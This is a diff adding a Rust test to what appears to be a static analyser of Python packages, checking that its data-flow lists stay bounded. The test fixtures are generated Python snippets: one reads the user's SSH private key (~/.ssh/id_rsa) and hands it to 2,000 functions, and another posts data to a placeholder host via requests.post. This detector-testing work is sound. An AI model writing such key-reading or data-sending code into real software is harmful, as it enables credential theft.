@@ -826,5 +826,21 @@ def c0():
         let mut flows = FileFlows::default();
         check_python("setup.py", &setup, &facts, "", true, &mut Capabilities::default(), &mut flows);
         assert_eq!(flows.entries.len(), MAX_PER_FILE);
+        // 2,000 calls handing an SSH key to other modules' functions,
+        // and a sender whose function has 2,000 assignments between its
+        // parameter and the send: bounded lists, no reach past the bound.
+        let handing: String = "import os\nE = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n".to_owned()
+            + &(0..2_000).map(|i| format!("lib.s{i}(E)\n")).collect::<String>();
+        let facts = crate::python::parse(&handing);
+        let mut flows = FileFlows::default();
+        check_python("pkg/hand.py", &handing, &facts, "", false, &mut Capabilities::default(), &mut flows);
+        assert_eq!(flows.handed.len(), MAX_PER_FILE);
+        let long: String = "import requests\ndef send(p):\n    v0 = p\n".to_owned()
+            + &(1..2_000).map(|i| format!("    v{i} = v{} + '.'\n", i - 1)).collect::<String>()
+            + "    requests.post('https://example.invalid/', data=v1999)\n";
+        let facts = crate::python::parse(&long);
+        let mut flows = FileFlows::default();
+        check_python("pkg/long.py", &long, &facts, "", false, &mut Capabilities::default(), &mut flows);
+        assert!(flows.sinks.iter().all(|s| s.params.is_empty()), "{:?}", flows.sinks);
     }
 }
